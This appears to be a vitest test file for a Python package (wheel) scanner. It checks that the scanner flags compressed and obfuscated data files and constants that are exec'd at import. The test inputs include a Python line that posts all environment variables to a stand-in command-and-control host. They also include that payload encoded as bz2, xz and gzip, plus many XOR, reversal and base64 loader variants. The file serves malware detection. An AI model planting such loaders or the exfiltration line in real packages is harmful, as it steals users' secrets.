import { deflateSync, gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { analyzeWheel } from '../testing/analyze-wheel.ts';

const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
/** `SEND` as Python's bz2 and lzma write it. */
const BZ2 = Buffer.from(
  'QlpoOTFBWSZTWTca5YEAABLZgAAQQOWQEi5j/4AgAEiKeowTTZNQ9RjQNU9TNA0mJhGjHWhcRiIOWUNr0Ikek+3qnmfSCTBWa/Zpjjljtuxm0PanMDIE5iiELC90csf6Hx7F3JFOFCQNxrlgQA==',
  'base64',
);
const XZ = Buffer.from(
  '/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ABQAExdADSbSme4Ujxz7TSC7l1PFOg6q8L4uETlZ9/n7zdoMm+Px6PC+kzl1f0c3MBEcEbeVvzVSIQjttuOyAerOGi71eJ2k0M3OzMNh0QJAAAAv0I7GnWqdygAAWhR5jXOkR+2830BAAAAAARZWg==',
  'base64',
);
const GZIP = gzipSync(SEND);
const PLACE = "os.path.join(os.path.dirname(__file__), 'b.dat')";

const flipped = (data: Uint8Array): Uint8Array => data.map((byte) => byte ^ 7);
const backwards = (data: Uint8Array): Uint8Array => data.toReversed();
const behind = (data: Uint8Array): Uint8Array => Buffer.concat([Buffer.from('\x89PNG....', 'latin1'), data]);
const base64 = (data: Uint8Array): Uint8Array => Buffer.from(Buffer.from(data).toString('base64'));

/** Verdict and rules of threats that a wheel of one module and one data file gives. */
async function judged(run: string, data: Uint8Array): Promise<string> {
  const text = `import os, gzip, bz2, lzma, zlib, base64, io\nP = ${PLACE}\n${run}\n`;
  const { findings, judgement } = await analyzeWheel({ 'own/__init__.py': text, 'own/b.dat': data });
  const rules = findings.filter(({ kind }) => kind === 'threat').map(({ rule }) => rule);
  return `${judgement.verdict}: ${[...new Set(rules)].toSorted().join(' ')}`;
}

test.each([
  ['gzip, by its own reader', 'exec(gzip.open(P).read())', GZIP],
  ['gzip, as text', "exec(gzip.open(P, 'rt', encoding='utf-8').read())", GZIP],
  ['gzip, by its lines', "for line in gzip.open(P, 'rt'):\n    exec(line)", GZIP],
  ['gzip, by its class', 'with gzip.GzipFile(P) as f:\n    exec(f.read())', GZIP],
  ['gzip, of what is open', "exec(gzip.GzipFile(fileobj=open(P, 'rb')).read())", GZIP],
  ['bz2, by its class', 'exec(bz2.BZ2File(P).read())', BZ2],
  ['bz2', "exec(bz2.open(P, mode='rt').read())", BZ2],
  ['xz', 'exec(lzma.open(P).read())', XZ],
  ['xz, by its class', 'exec(lzma.LZMAFile(P).read())', XZ],
  [
    'gzip whose text is flipped',
    'exec(bytes(x ^ 7 for x in gzip.open(P).read()))',
    gzipSync(flipped(Buffer.from(SEND))),
  ],
  ['gzip whose text is reversed', 'exec(gzip.open(P).read()[::-1])', gzipSync(backwards(Buffer.from(SEND)))],
  [
    'gzip that is flipped',
    "exec(gzip.decompress(bytes(x ^ 7 for x in open(P, 'rb').read())))",
    flipped(GZIP),
  ],
  ['gzip that is reversed', "exec(gzip.decompress(open(P, 'rb').read()[::-1]))", backwards(GZIP)],
  ['gzip behind other bytes', "exec(gzip.decompress(open(P, 'rb').read()[8:]))", behind(GZIP)],
  [
    'gzip in base64',
    'exec(gzip.decompress(base64.b64decode(open(P).read()[::-1])))',
    backwards(base64(GZIP)),
  ],
  [
    'gzip with bytes in front of its text',
    "exec(gzip.decompress(open(P, 'rb').read())[8:])",
    gzipSync(behind(Buffer.from(SEND))),
  ],
  [
    'bz2 that is flipped',
    "d = open(P, 'rb').read()\nexec(bz2.decompress(bytes([x ^ 7 for x in d])))",
    flipped(BZ2),
  ],
  [
    'xz that is flipped',
    "exec(lzma.decompress(bytes(map(lambda x: x ^ 7, open(P, 'rb').read()))))",
    flipped(XZ),
  ],
  [
    'xz of what is in memory',
    "exec(lzma.open(io.BytesIO(open(P, 'rb').read()[::-1])).read())",
    backwards(XZ),
  ],
  [
    'deflated and flipped',
    "exec(zlib.decompress(bytes(x ^ 7 for x in open(P, 'rb').read())))",
    flipped(deflateSync(SEND)),
  ],
  [
    'a generator that flips',
    "def turn(data):\n    for byte in data:\n        yield byte ^ 7\nexec(gzip.decompress(bytes(turn(open(P, 'rb').read()))))",
    flipped(GZIP),
  ],
])('packed data of the package that runs is read: %s', async (_how, run, data) => {
  expect(await judged(run, data)).toMatch(/^malicious: .*env-to-network/);
});

test.each([
  ['flipped', 'gzip.decompress(bytes(x ^ 7 for x in D))', flipped(GZIP)],
  ['backwards', 'gzip.GzipFile(fileobj=io.BytesIO(D[::-1])).read()', backwards(GZIP)],
  ['in base64', 'bz2.decompress(base64.b64decode(D))', base64(BZ2)],
  ['cut', 'lzma.decompress(D[8:])', behind(XZ)],
  ['of a reader', 'lzma.LZMAFile(io.BytesIO(D)).read()', XZ],
])('a packed constant that runs is read: %s', async (_how, code, data) => {
  const literal = Buffer.from(data).toString('hex');

  expect(await judged(`D = bytes.fromhex('${literal}')\nexec(${code})`, Buffer.from('words'))).toMatch(
    /^malicious: .*env-to-network/,
  );
});

test.each([
  ['a table', 'import json\nTABLE = json.load(gzip.open(P))', gzipSync('{"a": 1}')],
  ['a version', 'exec(gzip.open(P).read())', gzipSync("__version__ = '1.0'\n")],
  ['a word list', "WORDS = lzma.open(P, 'rt').read().split()", gzipSync('a b c')],
  ['what is no gzip', 'DATA = gzip.open(P).read()', Buffer.from('plain')],
])('packed data of honest packages stays benign: %s', async (_what, run, data) => {
  expect(await judged(run, data)).toMatch(/^benign/);
});
